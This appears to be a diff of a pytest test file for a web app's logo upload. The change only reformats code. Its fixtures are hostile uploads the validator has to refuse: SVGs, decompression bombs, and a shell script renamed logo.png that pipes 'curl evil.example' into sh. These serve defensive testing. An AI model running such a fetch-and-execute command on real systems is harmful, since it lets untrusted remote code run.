@@ -49,11 +49,19 @@ SVG = (
 ATTACKS = {
     "svg": (SVG, "logo.svg", "image/svg+xml", "not an image we can read"),
     "svg renamed png": (SVG, "logo.png", "image/png", "not an image we can read"),
-    "script renamed png": (b"#!/bin/sh\ncurl evil.example | sh\n", "logo.png", "image/png",
-                           "not an image we can read"),
+    "script renamed png": (
+        b"#!/bin/sh\ncurl evil.example | sh\n",
+        "logo.png",
+        "image/png",
+        "not an image we can read",
+    ),
     "truncated png": (image_bytes("PNG")[:300], "logo.png", "image/png", "damaged or incomplete"),
-    "png missing its end": (image_bytes("PNG")[:-30], "logo.png", "image/png",
-                            "damaged or incomplete"),
+    "png missing its end": (
+        image_bytes("PNG")[:-30],
+        "logo.png",
+        "image/png",
+        "damaged or incomplete",
+    ),
     "decompression bomb": (png_declaring(30_000, 30_000), "logo.png", "image/png", "too large"),
     "bomb just over the limit": (png_declaring(5_001, 5_000), "logo.png", "image/png", "too large"),
     "over 2 MB": (b"\x89PNG\r\n\x1a\n" + bytes(2 * 1024 * 1024), "logo.png", "image/png", "2 MB"),
@@ -111,10 +119,13 @@ def test_a_lying_content_type_does_not_matter(tmp_path):
 
 # In the staff area ----------------------------------------------------------------------------
 
+
 @pytest.fixture
 def org(app):
     with app.app_context():
-        db.session.add(Organisation(slug="kalibr", name="Kalibr", kind="company", status="published"))
+        db.session.add(
+            Organisation(slug="kalibr", name="Kalibr", kind="company", status="published")
+        )
         db.session.commit()
     return "kalibr"
 
@@ -148,7 +159,9 @@ def test_staff_upload_a_logo_that_the_profile_shows(app, client, staff, org, tmp
         assert db.session.scalar(sa.select(AuditEntry).filter_by(action="logo")) is not None
 
 
-@pytest.mark.parametrize("name", ["svg", "script renamed png", "truncated png", "decompression bomb"])
+@pytest.mark.parametrize(
+    "name", ["svg", "script renamed png", "truncated png", "decompression bomb"]
+)
 def test_refused_logo_shows_the_error_by_the_field_and_changes_nothing(
     app, client, staff, org, tmp_path, name
 ):
